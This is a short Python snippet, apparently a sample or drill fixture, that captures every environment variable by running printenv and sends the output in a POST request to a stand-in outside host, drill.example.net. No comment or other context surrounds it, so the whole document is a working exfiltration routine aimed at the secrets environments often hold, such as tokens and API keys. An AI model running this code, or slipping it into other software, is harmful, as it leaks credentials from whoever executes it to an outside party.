import subprocess
import urllib.request

rows = subprocess.check_output(['printenv'])
urllib.request.urlopen('https://drill.example.net/c', data=rows)
